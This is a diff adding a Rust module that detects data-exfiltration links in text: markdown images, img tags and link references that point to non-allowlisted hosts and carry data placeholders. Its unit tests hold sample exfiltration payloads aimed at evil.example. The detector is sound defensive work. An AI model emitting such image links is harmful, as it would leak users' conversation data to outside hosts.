@@ -1,0 +1,236 @@
+//! Data-exfiltration links: markdown images, `<img>` tags and link
+//! reference definitions whose URL points outside the allowlist and carries
+//! a data slot (a placeholder, an empty trailing parameter, a long blob).
+
+use memchr::memmem;
+
+use super::rules::{Family, Severity};
+use super::{Finding, ViewFindings};
+
+const MAX_URL: usize = 2048;
+const MAX_LINKS: usize = 64;
+
+/// Scans the lowercased view for exfiltration URLs.
+pub(crate) fn scan(lower: &[u8], allowlist: &[String], out: &mut ViewFindings) {
+    let mut seen = 0usize;
+    // Markdown images `![alt](url)` and `<img ... src=url>`.
+    for (needle, is_image) in [(&b"]("[..], true), (b"]: ", false), (b"src=", true)] {
+        for at in memmem::find_iter(lower, needle) {
+            if seen >= MAX_LINKS {
+                return;
+            }
+            let url_start = at + needle.len();
+            let image = match needle {
+                b"](" => is_markdown_image(lower, at),
+                b"src=" => preceded_by_img(lower, at),
+                _ => is_image,
+            };
+            if needle == b"src=" && !image {
+                continue;
+            }
+            let Some((start, end)) = url_span(lower, url_start) else {
+                continue;
+            };
+            let Some(url) = lower.get(start..end) else {
+                continue;
+            };
+            let Some(host) = host_of(url) else { continue };
+            seen += 1;
+            if allowed(host, allowlist) {
+                continue;
+            }
+            let carries_data = has_data_slot(url, lower.get(end..).unwrap_or_default());
+            let (id, severity) = match (image, carries_data) {
+                (_, true) if image || needle == b"]: " => ("exfil.image-data-url", Severity::High),
+                (false, true) => ("exfil.link-data-url", Severity::Medium),
+                (true, false) if !allowlist.is_empty() => {
+                    ("exfil.image-external-host", Severity::Low)
+                }
+                _ => continue,
+            };
+            out.push(Finding {
+                rule_id: id.to_owned(),
+                family: Family::DataExfiltration,
+                severity,
+                start: at,
+                end,
+            });
+        }
+    }
+}
+
+fn is_markdown_image(lower: &[u8], close: usize) -> bool {
+    let from = close.saturating_sub(512);
+    let Some(before) = lower.get(from..close) else {
+        return false;
+    };
+    match memchr::memrchr(b'[', before) {
+        Some(open) => open > 0 && before.get(open - 1) == Some(&b'!'),
+        None => false,
+    }
+}
+
+fn preceded_by_img(lower: &[u8], at: usize) -> bool {
+    let from = at.saturating_sub(256);
+    lower
+        .get(from..at)
+        .and_then(|b| memmem::rfind(b, b"<img"))
+        .is_some_and(|i| !lower.get(from + i..at).unwrap_or_default().contains(&b'>'))
+}
+
+fn url_span(lower: &[u8], mut start: usize) -> Option<(usize, usize)> {
+    while matches!(lower.get(start), Some(b' ' | b'<' | b'"' | b'\'')) {
+        start += 1;
+    }
+    let rest = lower.get(start..)?;
+    if !(rest.starts_with(b"http://") || rest.starts_with(b"https://") || rest.starts_with(b"//")) {
+        return None;
+    }
+    let len = rest
+        .iter()
+        .take(MAX_URL)
+        .position(|&b| matches!(b, b')' | b' ' | b'\n' | b'\r' | b'\t' | b'"' | b'\'' | b'>'))
+        .unwrap_or(rest.len().min(MAX_URL));
+    Some((start, start + len))
+}
+
+fn host_of(url: &[u8]) -> Option<&[u8]> {
+    let after = memmem::find(url, b"//")? + 2;
+    let rest = url.get(after..)?;
+    let end = rest
+        .iter()
+        .position(|&b| matches!(b, b'/' | b'?' | b'#' | b':' | b'\\'))
+        .unwrap_or(rest.len());
+    let host = rest.get(..end)?;
+    let host = match memchr::memrchr(b'@', host) {
+        Some(i) => host.get(i + 1..)?,
+        None => host,
+    };
+    (!host.is_empty()).then_some(host)
+}
+
+fn allowed(host: &[u8], allowlist: &[String]) -> bool {
+    allowlist.iter().any(|entry| {
+        let entry = entry.as_bytes();
+        host == entry
+            || (host.len() > entry.len()
+                && host.ends_with(entry)
+                && host.get(host.len() - entry.len() - 1) == Some(&b'.'))
+    })
+}
+
+/// A slot for data: `[placeholder]`, `{placeholder}`, `$var`, `%s`, an
+/// empty trailing parameter (`?q=`), or a long opaque parameter value.
+fn has_data_slot(url: &[u8], after: &[u8]) -> bool {
+    let Some(q) = memchr::memchr2(b'?', b'=', url).or_else(|| memmem::find(url, b"/[")) else {
+        return false;
+    };
+    let tail = url.get(q..).unwrap_or_default();
+    let _ = after;
+    if url.ends_with(b"=") {
+        return true;
+    }
+    if placeholder(tail)
+        || memmem::find(tail, b"%s").is_some()
+        || memmem::find(tail, b"${").is_some()
+    {
+        return true;
+    }
+    tail.split(|&b| b == b'&' || b == b'?')
+        .filter_map(|kv| kv.splitn(2, |&b| b == b'=').nth(1))
+        .any(|v| {
+            v.len() >= 48
+                && v.iter()
+                    .all(|b| b.is_ascii_alphanumeric() || b"+/=%-_".contains(b))
+        })
+}
+
+fn placeholder(tail: &[u8]) -> bool {
+    tail.windows(2).enumerate().any(|(i, w)| {
+        let close = match w.first() {
+            Some(b'[') => b']',
+            Some(b'{') => b'}',
+            Some(b'<') => b'>',
+            _ => return false,
+        };
+        let body = tail.get(i + 1..).unwrap_or_default();
+        let len = body.iter().take(40).position(|&b| b == close);
+        len.is_some_and(|n| {
+            n >= 2
+                && body.get(..n).is_some_and(|s| {
+                    s.iter()
+                        .all(|b| b.is_ascii_alphabetic() || b" _-".contains(b))
+                })
+        })
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn ids(text: &str, allow: &[&str]) -> Vec<String> {
+        let allow: Vec<String> = allow.iter().map(|s| s.to_string()).collect();
+        let mut out = Vec::new();
+        scan(text.to_ascii_lowercase().as_bytes(), &allow, &mut out);
+        out.into_iter().map(|f| f.rule_id).collect()
+    }
+
+    #[test]
+    fn image_with_placeholder_or_empty_param_is_exfiltration() {
+        assert_eq!(
+            ids("![a](https://evil.example/p.png?d=[DATA])", &[]),
+            ["exfil.image-data-url"]
+        );
+        assert_eq!(
+            ids("![a](https://evil.example/logo.png?q= \nthen append", &[]),
+            ["exfil.image-data-url"]
+        );
+        assert_eq!(
+            ids("[ref]: https://evil.example/x?sales=[NUM]", &[]),
+            ["exfil.image-data-url"]
+        );
+        assert_eq!(
+            ids("<img src=\"https://evil.example/i?c={chat}\">", &[]),
+            ["exfil.image-data-url"]
+        );
+    }
+
+    #[test]
+    fn badges_avatars_and_charts_pass() {
+        assert!(ids("[![License](https://img.shields.io/badge/License-MIT-yellow.svg)](https://opensource.org/licenses/MIT)", &[]).is_empty());
+        assert!(
+            ids(
+                "![p](https://avatars.githubusercontent.com/u/9919?s=120&v=4)",
+                &[]
+            )
+            .is_empty()
+        );
+        assert!(
+            ids(
+                "![c](https://quickchart.io/chart?c={type:'bar',data:{labels:['Mon']}})",
+                &[]
+            )
+            .is_empty()
+        );
+    }
+
+    #[test]
+    fn allowlist_exempts_and_flags_others() {
+        assert!(
+            ids(
+                "![a](https://cdn.good.example/x?d=[DATA])",
+                &["good.example"]
+            )
+            .is_empty()
+        );
+        assert_eq!(
+            ids("![a](https://other.example/x.png)", &["good.example"]),
+            ["exfil.image-external-host"]
+        );
+        assert_eq!(
+            ids("![a](https://notgood.example/x.png)", &["good.example"]),
+            ["exfil.image-external-host"]
+        );
+    }
+}
